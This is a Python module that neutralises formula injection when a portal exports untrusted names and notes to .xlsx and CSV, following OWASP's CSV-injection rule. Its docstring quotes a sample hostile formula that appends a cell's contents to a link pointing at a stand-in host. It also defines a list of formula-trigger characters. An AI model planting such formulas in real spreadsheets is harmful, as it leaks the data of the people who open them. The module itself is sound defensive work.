"""Cells written to spreadsheets (.xlsx and .csv): text is written as text, never as a formula.

Names, notes and addresses come from untrusted hands (the public /join page, imported sheets), and a name
such as ``=HYPERLINK("http://x"&A2,"点我")`` must reach the coordinator's sheet as those characters, not as a
live link (issue 26). Every writer of a sheet (the list exports, the report workbooks, the command line, the
queue's exports) writes its cells through the two functions here:

- ``xlsx_cell``: a text value becomes a cell typed as text (an inline string, never ``<f>``), and one that
  starts like a formula also carries Excel's own "quote prefix" mark, so editing the cell keeps it text;
  numbers and dates stay numbers and dates.
- ``csv_cell``: CSV has no types, so OWASP's rule for CSV injection applies: a text value starting with
  ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with ``'``, which Excel, WPS and
  LibreOffice show and never evaluate. Numbers are written as they are (``-5`` is no formula).
"""
from __future__ import annotations

from datetime import date, datetime, time
from typing import Any

#: The first characters that make a spreadsheet read a text as a formula or a command (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet program would read ``text`` as a formula if it were not marked as text."""
    return text.startswith(FORMULA_STARTS)


def _is_number(value: Any) -> bool:
    return isinstance(value, (int, float)) and not isinstance(value, bool)


def cell_text(value: Any) -> str:
    """A value as the text a sheet shows: nothing for None, ISO dates, the value's own text otherwise."""
    if value is None:
        return ""
    if isinstance(value, (date, datetime, time)):
        return value.isoformat()
    return str(value)


def csv_cell(value: Any) -> str:
    """A value as one CSV field: numbers as they are, text neutralised by OWASP's rule."""
    if _is_number(value):
        return str(value)
    text = cell_text(value)
    return "'" + text if formula_like(text) else text


def xlsx_cell(sheet, value: Any, empty: Any = None):
    """A value for ``sheet.append`` (write-only or not): numbers and dates as they are, anything else a
    cell typed as text. ``empty`` is what None becomes (None leaves the cell empty)."""
    if value is None:
        return empty
    if _is_number(value) or isinstance(value, (date, datetime, time)):
        return value
    from openpyxl.cell import WriteOnlyCell
    text = str(value)
    cell = WriteOnlyCell(sheet, value=None)
    cell.value = text
    cell.data_type = "s"  # openpyxl types a text starting with "=" as a formula on assignment
    if formula_like(text):
        cell.quotePrefix = True
    return cell


def xlsx_row(sheet, values, empty: Any = None) -> list:
    """A row of values for ``sheet.append``, each through ``xlsx_cell``."""
    return [xlsx_cell(sheet, v, empty) for v in values]


def csv_download(header, rows, filename: str):
    """A list as a CSV download (UTF-8 with Excel's mark): every cell through ``csv_cell``, kept by no cache
    (names, guardians and helpers: ``Cache-Control: no-store``). ``rows`` may be a generator: the download is
    streamed 500 rows at a time inside the request's context (a county's register is never held whole); a
    ledger-sized export with its own columns and queue goes through ``portal.transfer.export`` instead."""
    import csv
    import io
    from itertools import islice

    from flask import Response, stream_with_context

    def chunks():
        out = io.StringIO()
        writer = csv.writer(out)
        out.write("\ufeff")
        writer.writerow([csv_cell(v) for v in header])
        it = iter(rows)
        while True:
            batch = list(islice(it, 500))
            writer.writerows([csv_cell(v) for v in row] for row in batch)
            yield out.getvalue()
            out.seek(0)
            out.truncate()
            if len(batch) < 500:
                return

    return Response(stream_with_context(chunks()), content_type="text/csv; charset=utf-8",
                    headers={"Content-Disposition": f"attachment; filename={filename}", "Cache-Control": "no-store"})
